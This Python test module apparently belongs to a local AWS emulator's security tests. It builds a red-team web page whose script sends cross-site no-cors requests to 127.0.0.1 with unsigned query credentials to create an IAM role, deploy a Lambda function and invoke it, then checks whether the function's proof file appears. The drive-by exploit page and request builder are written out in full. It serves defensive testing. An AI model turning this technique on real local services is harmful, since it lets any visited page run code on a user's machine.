"""What a web page sends to attack a sandbox on the same machine: the red team's three requests.

Each is a request that a browser sends to any address without asking that server first: GET or POST,
no header of its own, text as its body. The query names an access key and holds no signature.
"""

import base64
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote, urlencode

from sandbox.testing.helpers import policy_document
from tests.conftest import ACCOUNT, REGION, Sandbox

NAME = "from-a-page"
ROLE = f"arn:aws:iam::{ACCOUNT}:role/{NAME}"
TRUST = policy_document(
    {"Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
)
# What a browser adds to a request that such a page causes (Chromium 156).
CHROMIUM = {
    "Origin": "http://attacker.example",
    "Referer": "http://attacker.example/",
    "Sec-Fetch-Site": "cross-site",
    "Sec-Fetch-Mode": "no-cors",
    "Sec-Fetch-Dest": "empty",
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/156.0.0.0 Safari/537.36",
}


@dataclass(frozen=True)
class PageRequest:
    """One request: method, path with query, body."""

    method: str
    path: str
    body: str = ""


def list_attack(key: str, proof: Path) -> Iterator[PageRequest]:
    """Yield the requests that make a role, a function that writes the file `proof`, and run it."""
    create_role = {
        "Action": "CreateRole",
        "Version": "2010-05-08",
        "RoleName": NAME,
        "AssumeRolePolicyDocument": TRUST,
    }
    code = f"def handler(event, context): open({str(proof)!r}, 'w').write('it ran')"
    function = {
        "FunctionName": NAME,
        "Runtime": "python3.12",
        "Handler": "index.handler",
        "Role": ROLE,
        "Code": {"ZipFile": _zip(code)},
    }
    yield PageRequest("GET", f"/?{urlencode(create_role)}&{_name_key(key, 'iam')}")
    functions = "/2015-03-31/functions"
    query = _name_key(key, "lambda")
    yield PageRequest("POST", f"{functions}?{query}", json.dumps(function))
    yield PageRequest("POST", f"{functions}/{NAME}/invocations?{query}", "{}")


def write_page(port: int, requests: list[PageRequest]) -> str:
    """Return the HTML of a page that sends them one after the other, then says /done."""
    sent = json.dumps([[it.method, it.path, it.body] for it in requests])
    return f"""<!doctype html><title>attack</title><script>
(async () => {{
  const answers = [];
  for (const [method, path, body] of {sent}) {{
    try {{
      const answer = await fetch("http://127.0.0.1:{port}" + path,
        {{mode: "no-cors", method, body: method === "POST" ? body : undefined}});
      answers.push(answer.type);
    }} catch (error) {{ answers.push(String(error)); }}
  }}
  await fetch("/done?" + encodeURIComponent(JSON.stringify(answers)));
}})();
</script>"""


def list_made(sandbox: Sandbox, proof: Path) -> list[str]:
    """Return what the attack left: role, function, and the file that the function writes."""
    roles = sandbox.client("iam").list_roles()["Roles"]
    functions = sandbox.client("lambda").list_functions()["Functions"]
    made = [f"role {it['RoleName']}" for it in roles if it["RoleName"] == NAME]
    made += [f"function {it['FunctionName']}" for it in functions if it["FunctionName"] == NAME]
    return made + (["code ran"] if proof.exists() else [])


def _name_key(key: str, service: str) -> str:
    now = datetime.now(UTC)
    scope = f"{key}/{now:%Y%m%d}/{REGION}/{service}/aws4_request"
    return (
        f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={quote(scope, safe='')}"
        f"&X-Amz-Date={now:%Y%m%dT%H%M%SZ}&X-Amz-Expires=600&X-Amz-SignedHeaders=host"
        "&X-Amz-Signature=0"
    )


def _zip(code: str) -> str:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as opened:
        opened.writestr("index.py", code)
    return base64.b64encode(made.getvalue()).decode()
